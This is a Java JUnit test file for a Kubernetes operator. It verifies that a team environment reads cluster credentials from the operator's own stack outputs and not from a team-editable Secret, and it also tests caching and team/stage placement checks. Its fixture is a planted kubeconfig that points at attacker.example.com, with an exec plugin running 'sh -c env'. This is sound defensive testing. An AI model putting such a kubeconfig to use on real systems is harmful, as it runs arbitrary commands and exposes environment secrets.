package dev.allotment.definition;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.allotment.api.v1alpha1.Cluster;
import dev.allotment.api.v1alpha1.StackResourceStatus;
import dev.allotment.api.v1alpha1.StackStatus;
import dev.allotment.api.v1alpha1.Stage;
import dev.allotment.api.v1alpha1.UpdateRecord;
import dev.allotment.engine.StackRef;
import dev.allotment.engine.StackRequest;
import dev.allotment.program.ClusterConnection;
import dev.allotment.publish.OutputsSecret;
import dev.allotment.status.ConditionType;
import dev.allotment.status.Conditions;
import dev.allotment.status.Reason;
import dev.allotment.testing.Examples;
import dev.allotment.testing.FakeStackEngine;
import dev.allotment.testing.TestCluster;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import java.time.Instant;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Where a TeamEnvironment on a Cluster gets that cluster's credentials (issue 13, point 1): from
 * the Cluster's stack, which only the operator writes, never from the {@code <cluster>-outputs}
 * Secret, which lives in the team's namespace and which the team can edit.
 */
class ClusterConnectionsTest {

  @RegisterExtension static final TestCluster CLUSTER = new TestCluster();

  private final FakeStackEngine engine = new FakeStackEngine();

  private static final String PLANTED =
      String.join(
          "\n",
          "apiVersion: v1",
          "kind: Config",
          "clusters:",
          "- name: evil",
          "  cluster: {server: 'https://attacker.example.com'}",
          "users:",
          "- name: evil",
          "  user:",
          "    exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, env]}",
          "contexts:",
          "- name: evil",
          "  context: {cluster: evil, user: evil}",
          "current-context: evil",
          "");

  @Test
  void theKubeconfigComesFromTheClustersStackNotFromTheSecretTheTeamCanEdit() throws Exception {
    Cluster cluster = readyCluster("vc-edited", "2026-11-30T01:00:00Z");
    StackRef ref = deploy(cluster);
    // The team rewrites the published Secret: another server, and a command to run.
    plantOutputsSecret(cluster);

    ClusterConnection connection =
        ClusterConnections.of(clusters(), engine)
            .find(CLUSTER.namespace(), "vc-edited", "payments", Stage.DEVELOPMENT);

    assertThat(connection.kubeconfig())
        .isEqualTo(engine.outputsOf(ref).get("kubeconfig").value())
        .doesNotContain("exec");
    assertThat(connection.server()).isEqualTo(engine.outputsOf(ref).get("endpoint").value());
  }

  @Test
  void aClusterWhoseStackHasNoKubeconfigIsWaitedForWhateverTheSecretSays() {
    readyCluster("vc-empty", "2026-11-30T01:00:00Z");
    plantOutputsSecret(
        CLUSTER
            .client()
            .resources(Cluster.class)
            .inNamespace(CLUSTER.namespace())
            .withName("vc-empty")
            .get());

    assertThatThrownBy(
            () ->
                ClusterConnections.of(clusters(), engine)
                    .find(CLUSTER.namespace(), "vc-empty", "payments", Stage.DEVELOPMENT))
        .isInstanceOf(WaitingException.class)
        .hasMessageContaining("Cluster vc-empty has not published its kubeconfig and endpoint yet");
  }

  @Test
  void theStackIsReadOncePerClusterUpdate() throws Exception {
    Cluster cluster = readyCluster("vc-cached", "2026-11-30T01:00:00Z");
    StackRef ref = deploy(cluster);
    var connections = ClusterConnections.of(clusters(), engine);

    connections.find(CLUSTER.namespace(), "vc-cached", "payments", Stage.DEVELOPMENT);
    connections.find(CLUSTER.namespace(), "vc-cached", "payments", Stage.DEVELOPMENT);
    assertThat(engine.outputReads(ref)).isEqualTo(1);

    // A new update of the Cluster (a rotated kubeconfig, say) is read again.
    readyCluster("vc-cached", "2026-11-30T02:00:00Z");
    connections.find(CLUSTER.namespace(), "vc-cached", "payments", Stage.DEVELOPMENT);
    assertThat(engine.outputReads(ref)).isEqualTo(2);
  }

  /** Issue 21, item 4: a TeamEnvironment is placed only on a Cluster of its own team and stage. */
  @ParameterizedTest(name = "{0}/{1} on a payments/development Cluster: refused {2}")
  @CsvSource({
    "payments, development, false",
    "payments, test, true",
    "payments, production, true",
    "checkout, development, true"
  })
  void onlyAClusterOfTheEnvironmentsOwnTeamAndStageMayHostIt(
      String team, String stage, boolean refused) {
    Cluster development = Examples.cluster("vcluster");

    var problem =
        ClusterConnections.placementRefused(development, team, Stage.valueOf(stage.toUpperCase()));

    assertThat(problem.isPresent()).isEqualTo(refused);
    problem.ifPresent(
        p -> {
          assertThat(p.field()).isEqualTo("spec.kubernetes.clusterRef");
          assertThat(p.message())
              .contains("is of team payments, stage development")
              .contains("name one of team " + team + " and stage " + stage);
        });
  }

  /** A Cluster as the operator leaves it after an up: Ready, with its last update recorded. */
  private static Cluster readyCluster(String name, String lastUpdateEnd) {
    var clusters = CLUSTER.client().resources(Cluster.class).inNamespace(CLUSTER.namespace());
    Cluster existing = clusters.withName(name).get();
    if (existing == null) {
      Cluster ordered = Examples.cluster("vcluster");
      ordered.getMetadata().setName(name);
      existing = clusters.resource(ordered).create();
    }
    var status = new StackResourceStatus();
    Conditions.set(
        status.getConditions(),
        ConditionType.READY,
        true,
        Reason.UP_TO_DATE,
        "up to date",
        existing.getMetadata().getGeneration(),
        Instant.now());
    var update = new UpdateRecord();
    update.setOperation("update");
    update.setResult("succeeded");
    update.setEndTime(lastUpdateEnd);
    var stack = new StackStatus();
    stack.setLastUpdate(update);
    status.setStack(stack);
    existing.setStatus(status);
    return clusters.resource(existing).updateStatus();
  }

  private StackRef deploy(Cluster cluster) throws Exception {
    StackRef ref =
        StackRef.of(
            "allotment-cluster",
            cluster.getMetadata().getNamespace(),
            cluster.getMetadata().getName());
    engine.up(StackRequest.of(ref, ctx -> {}));
    return ref;
  }

  private static void plantOutputsSecret(Cluster cluster) {
    CLUSTER
        .client()
        .secrets()
        .inNamespace(CLUSTER.namespace())
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withName(OutputsSecret.nameFor(cluster))
                .endMetadata()
                .withStringData(
                    Map.of("kubeconfig", PLANTED, "endpoint", "https://attacker.example.com"))
                .build())
        .createOr(e -> e.update());
  }

  /** The Clusters as the operator's informer would see them, read from the API server. */
  private static ClusterConnections.Clusters clusters() {
    return (namespace, name) ->
        Optional.ofNullable(
            CLUSTER.client().resources(Cluster.class).inNamespace(namespace).withName(name).get());
  }
}
